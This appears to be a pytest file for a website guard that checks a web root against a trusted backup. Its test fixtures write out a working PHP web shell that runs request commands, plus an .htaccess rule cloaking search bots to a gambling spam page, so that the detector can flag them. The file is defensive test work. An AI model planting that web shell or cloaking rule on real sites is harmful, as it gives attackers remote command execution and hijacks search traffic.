"""A guard check's inside view: the web root against the trusted backup, scored, with the file rules on top."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from jagaweb.activity.log import SystemJob
from jagaweb.backup import operations as backups
from jagaweb.backup.models import BackupPlan, BackupTarget, Snapshot
from jagaweb.guard.checking import run_check
from jagaweb.guard.choices import Source, Verdict
from jagaweb.guard.models import GuardProfile
from jagaweb.guard.operations import approve_finding
from jagaweb.inventory.models import Site

pytestmark = pytest.mark.django_db
JOB = SystemJob("test")
WEBSHELL = "<?php if (isset($_REQUEST['cmd'])) { echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>\n"
CLOAKING = ("RewriteEngine On\nRewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot) [NC]\n"
            "RewriteRule ^$ /wp-content/uploads/slot-gacor.html [L]\n")


@pytest.fixture
def web_root(tmp_path: Path) -> Path:
    root = tmp_path / "www"
    (root / "wp-content/uploads/2024").mkdir(parents=True)
    (root / "index.php").write_text("<?php require __DIR__ . '/wp-blog-header.php';\n")
    (root / ".htaccess").write_text("RewriteEngine On\nRewriteRule ^index\\.php$ - [L]\n")
    (root / "tentang.html").write_text("<h1>Tentang kami</h1>")
    (root / "wp-content/uploads/2024/foto.jpg").write_bytes(b"\xff\xd8\xff\xe0" + b"\x00" * 64)
    return root


@pytest.fixture
def guarded(site_a: Site, web_root: Path, tmp_path: Path) -> Site:
    site_a.web_root, site_a.url = str(web_root), "http://127.0.0.1:9/"
    site_a.save()
    target = BackupTarget.objects.create(name="usb", path=str(tmp_path / "usb"))
    BackupPlan.objects.create(site=site_a, target=target, include_database=False)
    GuardProfile.objects.create(site=site_a, visual=False, database=False, identities=["normal"], sitemap_sample=0,
                                allow_private=True)
    return site_a


def trust_a_backup(site: Site) -> Snapshot:
    run = backups.run_backup(site, JOB)
    snapshot = Snapshot.objects.get(site=site, snapshot_id=run.snapshot_id)
    snapshot.trusted = True
    snapshot.save()
    return snapshot


def attack(root: Path) -> None:
    (root / ".htaccess").write_text(CLOAKING)
    (root / "wp-content/uploads/2024/cache.php").write_text(WEBSHELL)
    (root / "google0123456789abcdef.html").write_text("google-site-verification: google0123456789abcdef.html")
    (root / "tentang.html").unlink()
    os.chmod(root / "index.php", 0o777)


def test_an_unchanged_web_root_has_no_file_findings_and_is_not_reread(guarded: Site) -> None:
    trust_a_backup(guarded)
    run = run_check(guarded, JOB)
    assert not run.findings.filter(source=Source.FILE).exists()
    assert run.counts["files"] == 4 and run.counts["hashed"] == 0


def test_each_change_is_one_finding_scored_by_what_and_where(guarded: Site, web_root: Path) -> None:
    trust_a_backup(guarded)
    attack(web_root)
    run = run_check(guarded, JOB)
    files = {f.location: f for f in run.findings.filter(source=Source.FILE)}
    assert set(files) == {".htaccess", "wp-content/uploads/2024/cache.php", "google0123456789abcdef.html",
                          "tentang.html", "index.php"}
    shell = files["wp-content/uploads/2024/cache.php"]
    assert shell.severity == "critical" and shell.verdict != Verdict.CLEAN
    assert {"file.code_in_uploads"} <= {r["code"] for r in shell.reasons}
    assert files[".htaccess"].severity in ("high", "critical")
    assert files["google0123456789abcdef.html"].severity == "high"
    assert files["tentang.html"].severity == "low" and files["tentang.html"].detail["kind"] == "deleted"
    assert files["index.php"].detail["kind"] == "permissions"
    assert run.severity == "critical"


def test_an_approved_change_is_not_reported_again_until_it_changes(guarded: Site, web_root: Path, operator) -> None:
    trust_a_backup(guarded)
    (web_root / "tentang.html").write_text("<h1>Tentang kami</h1><p>Alamat baru</p>")
    run = run_check(guarded, JOB)
    approve_finding(run.findings.get(source=Source.FILE, location="tentang.html"), operator)
    assert not run_check(guarded, JOB).findings.filter(source=Source.FILE).exists()
    (web_root / "tentang.html").write_text("<h1>Tentang kami</h1><p>Diubah lagi</p>")
    assert run_check(guarded, JOB).findings.filter(source=Source.FILE, location="tentang.html").exists()


def test_without_a_trusted_backup_every_file_is_scanned_by_the_rules(guarded: Site, web_root: Path) -> None:
    attack(web_root)
    run = run_check(guarded, JOB)
    files = {f.location for f in run.findings.filter(source=Source.FILE)}
    assert "wp-content/uploads/2024/cache.php" in files
    assert "tentang.html" not in files  # nothing to compare with: deletions cannot be known
    assert any("no trusted backup" in note for note in run.report["notes"])


def test_the_alert_names_the_worst_finding_of_every_view(guarded: Site, web_root: Path) -> None:
    from jagaweb.notify.models import Message

    trust_a_backup(guarded)
    attack(web_root)
    run_check(guarded, JOB)
    alert = Message.objects.get(site=guarded, title__contains="ATTACK")
    assert "wp-content/uploads/2024/cache.php" in alert.body.splitlines()[1]  # critical: the first line
